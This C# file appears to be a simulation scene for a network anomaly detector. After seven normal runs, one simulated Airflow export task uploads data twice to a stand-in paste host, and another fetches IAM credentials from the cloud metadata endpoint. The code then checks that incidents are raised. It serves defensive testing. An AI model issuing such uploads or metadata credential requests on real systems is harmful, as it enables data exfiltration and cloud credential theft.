namespace Windsock.Agent.Simulation.World.Scenes;

/// <summary>DAG <c>hourly_exports</c>: two tasks that do the same in every run, until one of them talks to somebody new and the other
/// asks the cloud for credentials.</summary>
internal sealed class ChangedHabitsScene : IScene
{
    private const int Runs = 7;

    /// <summary>Between the times at which the source loses events. What is lost from the start of a try until it is taken for ended, 15 s
    /// after its end, makes it no example to learn from.</summary>
    private static readonly TimeSpan FirstRun = TimeSpan.FromSeconds(24);
    private static readonly TimeSpan Length = TimeSpan.FromSeconds(1);

    /// <summary>Enough runs are learned by then.</summary>
    private static readonly TimeSpan ChangedRun = TimeSpan.FromSeconds(46);
    private static readonly TimeSpan ChangedLength = TimeSpan.FromSeconds(4);

    private static readonly Site Stranger = new("drop.paste.example.net", "198.51.100.99");
    private static readonly FlowEnd Metadata = FlowEnd.World("169.254.169.254");

    public void Begin(Stage stage)
    {
        for (var number = 0; number < Runs; number++)
        {
            var start = FirstRun + (number * Length);
            Usual(stage, Pod(stage, "export_orders", start, Length), start);
            Usual(stage, Pod(stage, "export_refunds", start, Length), start);
        }

        Change(stage, "export_orders", "new_destination", Stranger.Name, Upload);
        Change(stage, "export_refunds", "metadata_service_access", Metadata.Ip, AskForCredentials);
    }

    private static void Change(Stage stage, string task, string rule, string peer, Action<Conversation> act)
    {
        var pod = Pod(stage, task, ChangedRun, ChangedLength);
        Usual(stage, pod, ChangedRun);
        var at = ChangedRun + TimeSpan.FromSeconds(1.2);
        stage.At(at, () => stage.Record(new IncidentStruck(stage.Now, rule, IncidentSubject.Of(pod.Owner), peer, ChangedRun + ChangedLength)));
        stage.Say(at, pod, act);
    }

    private static SimulatedPod Pod(Stage stage, string task, TimeSpan start, TimeSpan length)
    {
        var run = new TaskRun("airflow-jobs", "hourly_exports", task, TaskRun.Scheduled(stage.TimeOf(start)));
        var pod = stage.Pods.Identified(stage.Pods.Operator(run, "3.0.6", TrueOwner.Task(run.Namespace, run.DagId, run.TaskId)));
        stage.Play(pod, new PodPlan(start, length, TalkProfile.Silent));
        return pod;
    }

    private static void Usual(Stage stage, SimulatedPod pod, TimeSpan start)
    {
        stage.Say(start + TimeSpan.FromSeconds(0.25), pod, talk => talk.Connect(talk.Me, talk.Places.Warehouse, 5432));
        stage.Say(start + TimeSpan.FromSeconds(0.45), pod, talk => talk.Connect(talk.Me, talk.Places.FeatureStore, 6566));
    }

    /// <summary>Twice: the second one is what makes a running try worth another look.</summary>
    private static void Upload(Conversation talk)
    {
        talk.CallOutside(Stranger, "POST", "/upload", 201);
        talk.Wait(0.3);
        talk.CallOutside(Stranger, "POST", "/upload", 201);
    }

    private static void AskForCredentials(Conversation talk) =>
        talk.Http(talk.Me, Metadata, 80, "GET", $"http://{Metadata.Ip}/latest/meta-data/iam/security-credentials/", 200);
}
